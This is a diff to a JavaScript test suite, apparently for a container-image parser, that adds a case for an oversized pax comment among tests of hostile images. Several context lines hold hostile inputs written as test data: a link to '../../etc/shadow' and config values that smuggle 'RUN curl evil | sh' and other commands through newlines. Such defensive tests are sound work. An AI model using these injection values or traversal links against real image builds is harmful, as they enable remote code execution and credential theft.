@@ -245,6 +245,7 @@ describe("a hostile image", () => {
     ["links to a file outside", { layers: [[{ name: "x", type: "link", linkname: "../../etc/shadow" }]] }],
     ["links to a file that is not in it", { layers: [[{ name: "x", type: "link", linkname: "gone" }]] }],
     ["has a name with a newline", { layers: [[{ name: "a\nb", text: "x" }]] }],
+    ["says more about a file than has to be read", { layers: [[{ name: "x", text: "x", pax: { comment: "c".repeat(100_000) } }]] }],
     ["writes a recipe by its variables", { config: { Env: ["A=x\nRUN curl evil | sh"] } }],
     ["writes a recipe by a variable's name", { config: { Env: ['A=" \nRUN x', "A b=c"] } }],
     ["writes a recipe by its user", { config: { User: "root\nRUN x" } }],
